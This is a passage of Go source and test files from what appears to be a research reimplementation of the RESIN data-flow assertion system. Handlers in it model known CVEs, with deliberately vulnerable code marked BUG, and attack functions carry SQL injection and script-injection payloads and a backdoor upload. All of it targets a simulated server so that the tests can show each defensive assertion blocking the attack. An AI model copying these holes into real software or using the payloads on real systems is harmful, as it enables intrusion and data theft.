// and a handle to the database for assertions that issue queries (§6.1:
// "our implementation issues database queries ... to perform the access
// check").
func (a *App) annotate(req *httpd.Request, resp *httpd.Response) {
	if req.Session == nil {
		return
	}
	chair, pc := a.userInfo(req.Session.User)
	ctx := resp.Channel().Context()
	ctx.Set("user", req.Session.User)
	ctx.Set("privChair", chair)
	ctx.Set("pc", pc)
	ctx.Set("db", a.DB)
}

// handlePaper renders the page measured in §7.1: session recall, SQL
// queries for the paper, title and abstract, and the author list guarded
// either by an explicit check (unmodified HotCRP) or by the data flow
// assertion plus output buffering (§5.5).
func (a *App) handlePaper(req *httpd.Request, resp *httpd.Response) error {
	a.annotate(req, resp)
	id, err := strconv.Atoi(req.ParamRaw("id"))
	if err != nil {
		resp.Status = 400
		return fmt.Errorf("hotcrp: bad paper id %q", req.ParamRaw("id"))
	}
	res, err := a.selPaper.Query(id)
	if err != nil {
		return err
	}
	if res.Len() == 0 {
		resp.Status = 404
		return httpd.ErrNotFound
	}
	title := res.Get(0, "title").Str
	abstract := res.Get(0, "abstract").Str
	authors := res.Get(0, "authors").Str
	anonymous := res.Get(0, "anonymous").Int.Value() == 1

	resp.WriteRaw("<html><head><title>Paper #" + strconv.Itoa(id) + "</title></head><body>")
	if err := resp.Write(core.Format("<h1>%s</h1>\n", sanitize.HTMLEscape(title))); err != nil {
		return err
	}
	if err := resp.Write(core.Format("<div class=\"abstract\">%s</div>\n", sanitize.HTMLEscape(abstract))); err != nil {
		return err
	}

	if a.assertions {
		// RESIN style (§5.5): always try to display the author list; the
		// assertion raises, the catch block discards the buffered output
		// and substitutes "Anonymous". No duplicate access check.
		ch := resp.Channel()
		ch.BeginBuffer()
		if werr := resp.Write(core.Format("<div class=\"authors\">%s</div>\n", sanitize.HTMLEscape(authors))); werr != nil {
			if derr := ch.DiscardBuffer(); derr != nil {
				return derr
			}
			resp.WriteRaw("<div class=\"authors\">Anonymous</div>\n")
		} else if rerr := ch.ReleaseBuffer(); rerr != nil {
			return rerr
		}
	} else {
		// Unmodified HotCRP: the explicit access check.
		user := ""
		if req.Session != nil {
			user = req.Session.User
		}
		chair, _ := a.userInfo(user)
		if anonymous && !chair && !strings.Contains(authors.Raw(), user) {
			resp.WriteRaw("<div class=\"authors\">Anonymous</div>\n")
		} else {
			resp.Write(core.Format("<div class=\"authors\">%s</div>\n", sanitize.HTMLEscape(authors)))
		}
	}
	resp.WriteRaw("</body></html>")
	return nil
}

// handleRemind implements the password reminder of §2, bug included: the
// reminder is always composed for the *requested* account, and in email
// preview mode the composed message is shown in the requester's browser.
// The two features are individually reasonable; their combination leaks
// the victim's password — unless the password's policy objects to the
// flow.
func (a *App) handleRemind(req *httpd.Request, resp *httpd.Response) error {
	a.annotate(req, resp)
	// The tainted account parameter binds as a value: it can never
	// reshape the query, and no quoting call is needed at all.
	account := req.Param("email")
	res, err := a.selPassword.Query(account)
	if err != nil {
		return err
	}
	if res.Len() == 0 {
		resp.Status = 404
		return fmt.Errorf("hotcrp: no account %q", account.Raw())
	}
	password := res.Get(0, "password").Str
	msg := core.Format("Dear user,\nYour HotCRP password is: %s\n", password)
	if a.EmailPreview {
		// Email preview mode: display the message in the browser.
		resp.WriteRaw("<pre>")
		if werr := resp.Write(msg); werr != nil {
			return werr
		}
		resp.WriteRaw("</pre>")
		return nil
	}
	return a.Mailer.Send(account.Raw(), "HotCRP password reminder", msg)
}
