package hotcrp

import (
	"strings"
	"testing"
)

func reviewApp(t *testing.T, withAssertions bool) *App {
	t.Helper()
	a := newInstance(withAssertions)
	a.EnableReviews()
	if err := a.AddReview(1, "pc@conf.org", "Strong accept. Clean design."); err != nil {
		t.Fatal(err)
	}
	if err := a.AddReview(1, "chair@conf.org", "Accept with revisions."); err != nil {
		t.Fatal(err)
	}
	return a
}

func TestReviewsVisibleToPCWithIdentity(t *testing.T) {
	for _, on := range []bool{false, true} {
		a := reviewApp(t, on)
		pc := a.Server.NewSession("pc@conf.org")
		resp, err := a.Server.Do("GET", "/reviews", map[string]string{"id": "1"}, pc)
		if err != nil {
			t.Fatalf("assertions=%v: %v", on, err)
		}
		body := resp.RawBody()
		if !strings.Contains(body, "Strong accept") || !strings.Contains(body, "pc@conf.org") {
			t.Errorf("assertions=%v: PC view incomplete: %q", on, body)
		}
	}
}

func TestReviewsTextVisibleToAuthorIdentityHidden(t *testing.T) {
	for _, on := range []bool{false, true} {
		a := reviewApp(t, on)
		author := a.Server.NewSession("author@uni.edu")
		resp, err := a.Server.Do("GET", "/reviews", map[string]string{"id": "1"}, author)
		if err != nil {
			t.Fatalf("assertions=%v: %v", on, err)
		}
		body := resp.RawBody()
		if !strings.Contains(body, "Strong accept") {
			t.Errorf("assertions=%v: author should see review text: %q", on, body)
		}
		if strings.Contains(body, "pc@conf.org") || strings.Contains(body, "chair@conf.org") {
			t.Errorf("assertions=%v: reviewer identity leaked to author: %q", on, body)
		}
		if !strings.Contains(body, "<h3>Reviewer</h3>") {
			t.Errorf("assertions=%v: identity placeholder missing: %q", on, body)
		}
	}
}

func TestReviewsBlockedForOutsiders(t *testing.T) {
	for _, on := range []bool{false, true} {
		a := reviewApp(t, on)
		outsider := a.Server.NewSession("rando@else.where")
		resp, err := a.Server.Do("GET", "/reviews", map[string]string{"id": "1"}, outsider)
		if err == nil {
			t.Errorf("assertions=%v: outsider should be denied", on)
		}
		if strings.Contains(resp.RawBody(), "Strong accept") {
			t.Errorf("assertions=%v: review text leaked: %q", on, resp.RawBody())
		}
	}
}

func TestReviewPoliciesPersistThroughDB(t *testing.T) {
	a := reviewApp(t, true)
	res, err := a.DB.QueryRaw("SELECT reviewer, body FROM reviews WHERE paper = 1")
	if err != nil {
		t.Fatal(err)
	}
	if !res.Get(0, "reviewer").Str.IsTainted() || !res.Get(0, "body").Str.IsTainted() {
		t.Error("review policies should come back from the database")
	}
	var idPolicy, textPolicy bool
	for _, p := range res.Get(0, "reviewer").Str.Policies().Policies() {
		if _, ok := p.(*ReviewerIdentityPolicy); ok {
			idPolicy = true
		}
	}
	for _, p := range res.Get(0, "body").Str.Policies().Policies() {
		if _, ok := p.(*ReviewPolicy); ok {
			textPolicy = true
		}
	}
	if !idPolicy || !textPolicy {
		t.Error("wrong policy classes restored")
	}
}

func TestReviewsBadRequest(t *testing.T) {
	a := reviewApp(t, true)
	pc := a.Server.NewSession("pc@conf.org")
	resp, err := a.Server.Do("GET", "/reviews", map[string]string{"id": "xx"}, pc)
	if err == nil || resp.Status != 400 {
		t.Errorf("bad id: %v %d", err, resp.Status)
	}
}
