// Package uploadapps models the five PHP applications of Table 4's
// server-side script injection row — the phpBB attachment mod
// (CVE-2004-1404), Kwalbum (CVE-2008-5677), AWStats Totals
// (CVE-2008-3922), phpMyAdmin (CVE-2008-4096) and wPortfolio
// (CVE-2008-5220). Each has a different shape of the same flaw: a way for
// adversary-supplied bytes to reach the interpreter as code.
//
// A single 12-LoC assertion (§5.2, Figure 6) prevents all five: installed
// code is tagged with a persistent CodeApproval policy, and the
// interpreter's import filter is replaced with one that requires the
// policy on every character — "whether through include statements, eval,
// or direct HTTP requests".
package uploadapps

import (
	"fmt"
	"strings"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/script"
	"resin/internal/vfs"
)

const (
	siteRoot  = "/site"
	appDir    = siteRoot + "/app"
	uploadDir = siteRoot + "/uploads"
	// adminSecret is what successful code execution exfiltrates.
	adminSecret = "s3cr3t-dump"
)

// App is the script-hosting site all five scenarios share.
type App struct {
	RT     *core.Runtime
	FS     *vfs.FS
	Server *httpd.Server
	Interp *script.Interp

	assertions bool
}

// New installs the site: application scripts in /site/app, an upload
// directory, and the interpreter wired to execute site scripts. With
// withAssertions set, the install step approves the shipped code and the
// import filter requires approval.
func New(rt *core.Runtime, withAssertions bool) *App {
	a := &App{
		RT:         rt,
		FS:         vfs.New(rt),
		Server:     httpd.NewServer(rt),
		assertions: withAssertions,
	}
	a.Interp = script.New(rt, a.FS)
	a.Interp.Register("secret", func(args []script.Value) (script.Value, error) {
		return script.StringValue(core.NewString(adminSecret)), nil
	})

	must(a.FS.MkdirAll(appDir, nil))
	must(a.FS.MkdirAll(uploadDir, nil))
	must(a.FS.WriteFile(appDir+"/main.rsl", core.NewString(`echo "welcome to the gallery";`), nil))
	must(a.FS.WriteFile(appDir+"/config.rsl", core.NewString(`let theme = "plain"; echo "theme: " . theme;`), nil))

	if withAssertions {
		a.enableScriptInjectionAssertion()
	}

	a.Server.Handle("/run", a.handleRun)
	a.Server.Handle("/attach", a.handleAttach)
	a.Server.Handle("/albumupload", a.handleAlbumUpload)
	a.Server.Handle("/stats", a.handleStats)
	a.Server.Handle("/saveconfig", a.handleSaveConfig)
	a.Server.Handle("/wp/upload", a.handleWPUpload)
	a.Server.Handle("/page", a.handlePage)
	return a
}

func must(err error) {
	if err != nil {
		panic(fmt.Sprintf("uploadapps: %v", err))
	}
}

// handleRun executes a site script — the web server's script handler. It
// runs any file whose name mentions the script extension anywhere, which
// is how Apache's multiple-extension handling behaves (the trap behind
// CVE-2004-1404).
func (a *App) handleRun(req *httpd.Request, resp *httpd.Response) error {
	name := req.ParamRaw("script")
	if !strings.Contains(name, ".rsl") {
		resp.Status = 404
		return fmt.Errorf("uploadapps: not a script: %q", name)
	}
	path := vfs.Resolve(siteRoot + "/" + name)
	if !strings.HasPrefix(path, siteRoot+"/") {
		resp.Status = 404
		return httpd.ErrNotFound
	}
	if err := a.Interp.RunFile(path, resp.Channel(), nil); err != nil {
		resp.Status = 500
		return err
	}
	return nil
}

// handleAttach is the phpBB attachment mod: it checks that the name ends
// with an allowed extension, but keeps the full multi-extension name.
func (a *App) handleAttach(req *httpd.Request, resp *httpd.Response) error {
	name := req.ParamRaw("name")
	okExt := false
	for _, ext := range []string{".png", ".jpg", ".gif", ".txt"} {
		if strings.HasSuffix(name, ext) {
			okExt = true
		}
	}
	if !okExt || strings.Contains(name, "/") {
		resp.Status = 400
		return fmt.Errorf("uploadapps: attachment type not allowed")
	}
	if err := a.FS.WriteFile(uploadDir+"/"+name, req.Param("content"), nil); err != nil {
		return err
	}
	return resp.Write(core.Format("attached uploads/%s", sanitize.HTMLEscape(core.NewString(name))))
}

// handleAlbumUpload is Kwalbum: no validation at all.
func (a *App) handleAlbumUpload(req *httpd.Request, resp *httpd.Response) error {
	name := req.ParamRaw("name")
	if strings.Contains(name, "/") {
		resp.Status = 400
		return fmt.Errorf("uploadapps: bad name")
	}
	if err := a.FS.WriteFile(uploadDir+"/"+name, req.Param("content"), nil); err != nil {
		return err
	}
	return resp.Write(core.Format("uploaded uploads/%s", sanitize.HTMLEscape(core.NewString(name))))
}

// handleStats is AWStats Totals: the sort parameter is spliced into code
// handed to eval.
func (a *App) handleStats(req *httpd.Request, resp *httpd.Response) error {
	code := core.Concat(
		core.NewString(`let key = "`),
		req.Param("sort"), // BUG: adversary bytes become code
		core.NewString(`"; echo "sorted by " . key;`),
	)
	if err := a.Interp.RunSource(code, resp.Channel()); err != nil {
		resp.Status = 500
		return err
	}
	return nil
}

// handleSaveConfig is phpMyAdmin's setup script: it generates a config
// *script* containing an adversary-influenced value, which /page later
// includes as code.
func (a *App) handleSaveConfig(req *httpd.Request, resp *httpd.Response) error {
	cfg := core.Concat(
		core.NewString(`let theme = "`),
		req.Param("theme"), // BUG: value spliced into generated code
		core.NewString(`"; echo "theme: " . theme;`),
	)
	if err := a.FS.WriteFile(appDir+"/config.rsl", cfg, nil); err != nil {
		return err
	}
	return resp.WriteRaw("config saved")
}

// handlePage renders the themed page by including the config script.
func (a *App) handlePage(req *httpd.Request, resp *httpd.Response) error {
	if err := a.Interp.RunFile(appDir+"/config.rsl", resp.Channel(), nil); err != nil {
		resp.Status = 500
		return err
	}
	return nil
}

// handleWPUpload is wPortfolio: an upload endpoint that forgot its
// authentication check and writes straight into the web root.
func (a *App) handleWPUpload(req *httpd.Request, resp *httpd.Response) error {
	name := req.ParamRaw("name")
	if strings.Contains(name, "/") {
		resp.Status = 400
		return fmt.Errorf("uploadapps: bad name")
	}
	// BUG: no auth, and the target is the script-served site root.
	if err := a.FS.WriteFile(siteRoot+"/"+name, req.Param("content"), nil); err != nil {
		return err
	}
	return resp.Write(core.Format("uploaded %s", sanitize.HTMLEscape(core.NewString(name))))
}
