package uploadapps

// The RESIN server-side script injection assertion (Table 4: 12 LoC in
// the paper, one assertion preventing known vulnerabilities in five
// different applications). It is Data Flow Assertion 3: "the interpreter
// may not interpret any user-supplied code."

import (
	_ "embed"

	"resin/internal/script"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: script-injection

// enableScriptInjectionAssertion approves the code shipped with the
// application (make_file_executable at install time) and replaces the
// interpreter's import filter with one requiring the CodeApproval policy
// on every character of loaded code.
func (a *App) enableScriptInjectionAssertion() {
	must(script.MakeFileExecutable(a.FS, appDir+"/main.rsl"))
	must(script.MakeFileExecutable(a.FS, appDir+"/config.rsl"))
	a.Interp.RequireApprovedCode()
}

// END ASSERTION
