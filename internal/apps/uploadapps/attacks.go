package uploadapps

import (
	"strings"

	"resin/internal/core"
)

const evilCode = `echo secret();`

func newInstance(withAssertions bool) *App {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	return New(rt, withAssertions)
}

func blockedBy(err error) error {
	if err == nil {
		return nil
	}
	if _, ok := core.IsAssertionError(err); ok {
		return err
	}
	return nil
}

// AttackPhpBBAttachmentMod (CVE-2004-1404): a multi-extension file passes
// the attachment mod's extension check, then the server's script handler
// executes it anyway.
func AttackPhpBBAttachmentMod(withAssertions bool) (executed bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("attacker")
	if _, err := a.Server.Do("GET", "/attach",
		map[string]string{"name": "evil.rsl.png", "content": evilCode}, s); err != nil {
		return false, blockedBy(err)
	}
	resp, err := a.Server.Do("GET", "/run",
		map[string]string{"script": "uploads/evil.rsl.png"}, s)
	return strings.Contains(resp.RawBody(), adminSecret), blockedBy(err)
}

// AttackKwalbum (CVE-2008-5677): arbitrary upload, then direct execution.
func AttackKwalbum(withAssertions bool) (executed bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("attacker")
	if _, err := a.Server.Do("GET", "/albumupload",
		map[string]string{"name": "shell.rsl", "content": evilCode}, s); err != nil {
		return false, blockedBy(err)
	}
	resp, err := a.Server.Do("GET", "/run",
		map[string]string{"script": "uploads/shell.rsl"}, s)
	return strings.Contains(resp.RawBody(), adminSecret), blockedBy(err)
}

// AttackAWStatsTotals (CVE-2008-3922): the sort parameter is evaluated as
// code.
func AttackAWStatsTotals(withAssertions bool) (executed bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("attacker")
	resp, err := a.Server.Do("GET", "/stats",
		map[string]string{"sort": `x"; echo secret(); let z = "y`}, s)
	return strings.Contains(resp.RawBody(), adminSecret), blockedBy(err)
}

// AttackPhpMyAdmin (CVE-2008-4096): the generated config script carries
// injected code, which the themed page later includes.
func AttackPhpMyAdmin(withAssertions bool) (executed bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("attacker")
	if _, err := a.Server.Do("GET", "/saveconfig",
		map[string]string{"theme": `x"; echo secret(); let z = "y`}, s); err != nil {
		return false, blockedBy(err)
	}
	resp, err := a.Server.Do("GET", "/page", nil, s)
	return strings.Contains(resp.RawBody(), adminSecret), blockedBy(err)
}

// AttackWPortfolio (CVE-2008-5220): unauthenticated upload straight into
// the web root, then direct execution.
func AttackWPortfolio(withAssertions bool) (executed bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("attacker")
	if _, err := a.Server.Do("GET", "/wp/upload",
		map[string]string{"name": "backdoor.rsl", "content": evilCode}, s); err != nil {
		return false, blockedBy(err)
	}
	resp, err := a.Server.Do("GET", "/run",
		map[string]string{"script": "backdoor.rsl"}, s)
	return strings.Contains(resp.RawBody(), adminSecret), blockedBy(err)
}

// LegitimateRun checks that installed, approved application code still
// executes with the assertion in place.
func LegitimateRun(withAssertions bool) (ok bool, err error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("visitor")
	resp, err := a.Server.Do("GET", "/run", map[string]string{"script": "app/main.rsl"}, s)
	if err != nil {
		return false, err
	}
	if !strings.Contains(resp.RawBody(), "welcome to the gallery") {
		return false, nil
	}
	resp, err = a.Server.Do("GET", "/page", nil, s)
	if err != nil {
		return false, err
	}
	return strings.Contains(resp.RawBody(), "theme: plain"), nil
}
