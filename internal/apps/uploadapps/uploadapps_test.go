package uploadapps

import (
	"errors"
	"strings"
	"testing"

	"resin/internal/script"
)

func checkAttack(t *testing.T, name string, fn func(bool) (bool, error)) {
	t.Helper()
	executed, _ := fn(false)
	if !executed {
		t.Errorf("%s: code execution must succeed without the assertion", name)
	}
	executed, blockErr := fn(true)
	if executed {
		t.Errorf("%s: assertion failed to stop code execution", name)
	}
	if blockErr == nil {
		t.Errorf("%s: execution should be blocked by an assertion error", name)
	}
}

func TestAllFiveScriptInjections(t *testing.T) {
	checkAttack(t, "phpbb-attachment-mod", AttackPhpBBAttachmentMod)
	checkAttack(t, "kwalbum", AttackKwalbum)
	checkAttack(t, "awstats-totals", AttackAWStatsTotals)
	checkAttack(t, "phpmyadmin", AttackPhpMyAdmin)
	checkAttack(t, "wportfolio", AttackWPortfolio)
}

func TestBlockedByNotExecutable(t *testing.T) {
	_, blockErr := AttackKwalbum(true)
	if !errors.Is(blockErr, script.ErrNotExecutable) {
		t.Errorf("block error should be ErrNotExecutable: %v", blockErr)
	}
}

func TestLegitimateRunUnbroken(t *testing.T) {
	for _, on := range []bool{false, true} {
		ok, err := LegitimateRun(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: ok=%v err=%v", on, ok, err)
		}
	}
}

func TestAttachmentExtensionCheckWorks(t *testing.T) {
	// The mod's own check rejects a bare script extension — the bug is
	// only the multi-extension case.
	a := newInstance(false)
	s := a.Server.NewSession("x")
	resp, err := a.Server.Do("GET", "/attach",
		map[string]string{"name": "evil.rsl", "content": evilCode}, s)
	if err == nil || resp.Status != 400 {
		t.Error("bare .rsl attachment should be rejected by the mod's own check")
	}
}

func TestRunRefusesNonScripts(t *testing.T) {
	a := newInstance(true)
	s := a.Server.NewSession("x")
	resp, err := a.Server.Do("GET", "/run", map[string]string{"script": "app/readme.txt"}, s)
	if err == nil || resp.Status != 404 {
		t.Errorf("non-script run: %v %d", err, resp.Status)
	}
	// Traversal out of the site root 404s.
	resp, err = a.Server.Do("GET", "/run", map[string]string{"script": "../etc/x.rsl"}, s)
	if err == nil || resp.Status == 200 {
		t.Errorf("traversal run: %v %d", err, resp.Status)
	}
}

func TestBenignStatsBlockedOnlyWithAssertion(t *testing.T) {
	// Strategy note from the paper: eval of runtime-constructed code can
	// never carry CodeApproval, so the assertion disables the eval-based
	// feature outright — the safe behaviour.
	a := newInstance(false)
	s := a.Server.NewSession("v")
	resp, err := a.Server.Do("GET", "/stats", map[string]string{"sort": "name"}, s)
	if err != nil || !strings.Contains(resp.RawBody(), "sorted by name") {
		t.Errorf("baseline stats: %v %q", err, resp.RawBody())
	}
	a2 := newInstance(true)
	s2 := a2.Server.NewSession("v")
	if _, err := a2.Server.Do("GET", "/stats", map[string]string{"sort": "name"}, s2); err == nil {
		t.Error("eval-based stats must be refused under the assertion")
	}
}

func TestAssertionSourceEmbedded(t *testing.T) {
	if !strings.Contains(AssertionSource, "BEGIN ASSERTION: script-injection") {
		t.Error("assertion marker missing")
	}
}
