package loginlib

// The RESIN password assertion for the myPHPscripts login library
// (Table 4: 6 LoC in the paper). Compare hotcrp.PasswordPolicy: the only
// difference is that this library has no legitimate password flow at all,
// so every export is a violation (§6.3: "the assertions for password
// disclosure in HotCRP and myPHPscripts are very similar").

import (
	_ "embed"
	"errors"

	"resin/internal/core"
)

// AssertionSource is this file's source, embedded for LoC accounting.
//
//go:embed assertions.go
var AssertionSource string

// BEGIN ASSERTION: myphpscripts-password-disclosure

// LoginPasswordPolicy forbids a stored password from ever leaving the
// system.
type LoginPasswordPolicy struct {
	User string `json:"user"`
}

// ExportCheck vetoes every boundary.
func (p *LoginPasswordPolicy) ExportCheck(ctx *core.Context) error {
	return errors.New("password disclosure")
}

// END ASSERTION

func init() {
	core.RegisterPolicyClass("loginlib.LoginPasswordPolicy", &LoginPasswordPolicy{})
}
