package loginlib

import (
	"strings"

	"resin/internal/core"
)

func newInstance(withAssertions bool) *App {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	return New(rt, withAssertions)
}

// AttackFetchPasswordFile mounts CVE-2008-5855: after a user registers,
// the adversary requests the credential file straight from the web root.
func AttackFetchPasswordFile(withAssertions bool) (leaked bool, blockErr error) {
	a := newInstance(withAssertions)
	victim := a.Server.NewSession("victim")
	if _, err := a.Server.Do("GET", "/register",
		map[string]string{"user": "victim", "pw": "hunter2"}, victim); err != nil {
		return false, err
	}
	resp, err := a.Server.Do("GET", "/login/users.txt", nil, nil)
	leaked = strings.Contains(resp.RawBody(), "hunter2")
	if err != nil {
		if _, ok := core.IsAssertionError(err); ok {
			blockErr = err
		}
	}
	return leaked, blockErr
}

// LegitimateLogin checks registration + login still work with the
// assertion installed (credential comparison is control flow, which RESIN
// does not restrict).
func LegitimateLogin(withAssertions bool) (ok bool, err error) {
	a := newInstance(withAssertions)
	sess := a.Server.NewSession("victim")
	if _, err = a.Server.Do("GET", "/register",
		map[string]string{"user": "victim", "pw": "hunter2"}, sess); err != nil {
		return false, err
	}
	resp, err := a.Server.Do("GET", "/login",
		map[string]string{"user": "victim", "pw": "hunter2"}, sess)
	if err != nil {
		return false, err
	}
	if !strings.Contains(resp.RawBody(), "welcome victim") {
		return false, nil
	}
	// Wrong password still rejected.
	resp, _ = a.Server.Do("GET", "/login",
		map[string]string{"user": "victim", "pw": "wrong"}, sess)
	return resp.Status == 403, nil
}
