// Package loginlib re-implements the myPHPscripts login session library
// the RESIN paper evaluates (425 LoC in the original). The library stores
// its users' passwords in a plain-text file in the same HTTP-accessible
// directory that contains the library's PHP files (CVE-2008-5855): an
// adversary simply requests the password file with a browser.
//
// The assertion (6 LoC in the paper) is nearly identical to HotCRP's
// password assertion — the only difference is that this library never
// emails passwords, so no flow out of the system is ever legitimate. The
// password file keeps its policies in the file's extended attributes, and
// the RESIN-aware web server's static path (§3.4.1) refuses to serve it.
package loginlib

import (
	"fmt"
	"strings"

	"resin/internal/core"
	"resin/internal/httpd"
	"resin/internal/sanitize"
	"resin/internal/vfs"
)

const (
	docroot      = "/www"
	passwordFile = docroot + "/login/users.txt"
)

// App hosts the login library inside a small site.
type App struct {
	RT     *core.Runtime
	FS     *vfs.FS
	Server *httpd.Server

	assertions bool
}

// New builds the site: the library's directory lives inside the docroot,
// exactly the deployment mistake of the CVE.
func New(rt *core.Runtime, withAssertions bool) *App {
	a := &App{
		RT:         rt,
		FS:         vfs.New(rt),
		Server:     httpd.NewServer(rt),
		assertions: withAssertions,
	}
	must(a.FS.MkdirAll(docroot+"/login", nil))
	must(a.FS.WriteFile(docroot+"/index.html", core.NewString("<h1>my site</h1>"), nil))
	a.Server.Handle("/register", a.handleRegister)
	a.Server.Handle("/login", a.handleLogin)
	a.Server.ServeStatic(a.FS, docroot)
	return a
}

func must(err error) {
	if err != nil {
		panic(fmt.Sprintf("loginlib: %v", err))
	}
}

// handleRegister appends "user:password" to the plain-text credential
// file — with the assertion installed, the password bytes carry their
// policy into the file's extended attributes.
func (a *App) handleRegister(req *httpd.Request, resp *httpd.Response) error {
	user := req.Param("user")
	pw := req.Param("pw")
	if user.IsEmpty() || pw.IsEmpty() || user.Contains(":") {
		resp.Status = 400
		return fmt.Errorf("loginlib: bad registration")
	}
	if a.assertions {
		pw = a.RT.PolicyAdd(pw, &LoginPasswordPolicy{User: user.Raw()})
	}
	line := core.Concat(user, core.NewString(":"), pw, core.NewString("\n"))
	if err := a.FS.AppendFile(passwordFile, line, nil); err != nil {
		return err
	}
	return resp.WriteRaw("registered")
}

// handleLogin checks credentials against the file. Note the comparison is
// control flow: RESIN deliberately does not track it, so login keeps
// working with the assertion installed.
func (a *App) handleLogin(req *httpd.Request, resp *httpd.Response) error {
	data, err := a.FS.ReadFile(passwordFile, nil)
	if err != nil {
		resp.Status = 403
		return fmt.Errorf("loginlib: no users registered")
	}
	want := req.ParamRaw("user") + ":" + req.ParamRaw("pw")
	for _, line := range strings.Split(data.Raw(), "\n") {
		if line == want {
			return resp.Write(core.Format("welcome %s", sanitize.HTMLEscape(req.Param("user"))))
		}
	}
	resp.Status = 403
	return fmt.Errorf("loginlib: bad credentials")
}
