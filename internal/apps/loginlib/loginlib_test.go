package loginlib

import (
	"strings"
	"testing"

	"resin/internal/core"
)

func TestPasswordFileFetch(t *testing.T) {
	leaked, _ := AttackFetchPasswordFile(false)
	if !leaked {
		t.Fatal("the password file must be fetchable without the assertion")
	}
	leaked, blockErr := AttackFetchPasswordFile(true)
	if leaked {
		t.Fatal("assertion failed to stop the disclosure")
	}
	if blockErr == nil {
		t.Fatal("fetch should be blocked by an assertion error")
	}
	ae, _ := core.IsAssertionError(blockErr)
	if _, ok := ae.Policy.(*LoginPasswordPolicy); !ok {
		t.Errorf("blocking policy = %T", ae.Policy)
	}
}

func TestLegitimateLogin(t *testing.T) {
	for _, on := range []bool{false, true} {
		ok, err := LegitimateLogin(on)
		if err != nil || !ok {
			t.Errorf("assertions=%v: ok=%v err=%v", on, ok, err)
		}
	}
}

func TestOnlyPasswordBytesGuarded(t *testing.T) {
	// Character-level tracking: the username half of each line carries no
	// policy; only the password bytes do.
	a := newInstance(true)
	sess := a.Server.NewSession("victim")
	a.Server.Do("GET", "/register", map[string]string{"user": "victim", "pw": "hunter2"}, sess)
	data, err := a.FS.ReadFile(passwordFile, nil)
	if err != nil {
		t.Fatal(err)
	}
	raw := data.Raw()
	colon := strings.Index(raw, ":")
	isPw := func(p core.Policy) bool {
		_, ok := p.(*LoginPasswordPolicy)
		return ok
	}
	// The username bytes carry only the input taint, not the password
	// policy; the password bytes carry both.
	if data.Slice(0, colon).Policies().Any(isPw) {
		t.Error("username bytes should not carry the password policy")
	}
	pwPart := data.Slice(colon+1, colon+1+len("hunter2"))
	if !pwPart.HasPolicyEverywhere(isPw) {
		t.Error("password bytes should carry the policy")
	}
}

func TestOtherStaticFilesStillServed(t *testing.T) {
	a := newInstance(true)
	resp, err := a.Server.Do("GET", "/index.html", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(resp.RawBody(), "my site") {
		t.Errorf("index = %q", resp.RawBody())
	}
}

func TestBadRegistration(t *testing.T) {
	a := newInstance(true)
	sess := a.Server.NewSession("x")
	for _, params := range []map[string]string{
		{"user": "", "pw": "p"},
		{"user": "u", "pw": ""},
		{"user": "a:b", "pw": "p"},
	} {
		resp, err := a.Server.Do("GET", "/register", params, sess)
		if err == nil || resp.Status != 400 {
			t.Errorf("registration %v should fail", params)
		}
	}
}

func TestMultipleUsersAppend(t *testing.T) {
	a := newInstance(true)
	s := a.Server.NewSession("x")
	a.Server.Do("GET", "/register", map[string]string{"user": "u1", "pw": "p1"}, s)
	a.Server.Do("GET", "/register", map[string]string{"user": "u2", "pw": "p2"}, s)
	for _, on := range []bool{true} {
		_ = on
		ok, err := func() (bool, error) {
			resp, err := a.Server.Do("GET", "/login", map[string]string{"user": "u2", "pw": "p2"}, s)
			return strings.Contains(resp.RawBody(), "welcome u2"), err
		}()
		if err != nil || !ok {
			t.Errorf("second user login: ok=%v err=%v", ok, err)
		}
	}
}
