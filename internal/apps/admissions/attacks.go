package admissions

import (
	"strings"

	"resin/internal/core"
)

func newInstance(withAssertions bool) *App {
	rt := core.NewRuntime()
	if !withAssertions {
		rt = core.NewUntrackedRuntime()
	}
	return New(rt, withAssertions)
}

func blockedBy(err error) error {
	if err == nil {
		return nil
	}
	if _, ok := core.IsAssertionError(err); ok {
		return err
	}
	return nil
}

// AttackSearchInjection dumps every applicant through the search page:
// the classic quote breakout.
func AttackSearchInjection(withAssertions bool) (leaked bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("committee-intern")
	resp, err := a.Server.Do("GET", "/committee/search",
		map[string]string{"name": "x' OR name != '"}, s)
	leaked = strings.Contains(resp.RawBody(), "TOP SECRET") ||
		strings.Count(resp.RawBody(), "gpa=") >= 3
	return leaked, blockedBy(err)
}

// AttackScoreInjection rewrites every applicant's score through the
// unquoted id parameter.
func AttackScoreInjection(withAssertions bool) (tampered bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("committee-intern")
	_, err := a.Server.Do("GET", "/committee/setscore",
		map[string]string{"score": "100", "id": "1 OR 1=1"}, s)
	tampered = a.Score(2) == 100 && a.Score(3) == 100
	return tampered, blockedBy(err)
}

// AttackCommentInjection appends an extra SET clause through the comment
// text, silently boosting the attacker's preferred applicant.
func AttackCommentInjection(withAssertions bool) (tampered bool, blockErr error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("committee-intern")
	_, err := a.Server.Do("GET", "/committee/comment",
		map[string]string{"text": "fine', score = 99 WHERE id = 2 -- ", "id": "1"}, s)
	tampered = a.Score(2) == 99
	return tampered, blockedBy(err)
}

// LegitimateSearch checks that ordinary committee searches still work —
// including names with apostrophes through the correctly-quoted view page.
func LegitimateSearch(withAssertions bool) (ok bool, err error) {
	a := newInstance(withAssertions)
	s := a.Server.NewSession("committee-member")
	resp, err := a.Server.Do("GET", "/committee/search",
		map[string]string{"name": "alice chen"}, s)
	if err != nil {
		return false, err
	}
	if !strings.Contains(resp.RawBody(), "alice chen") {
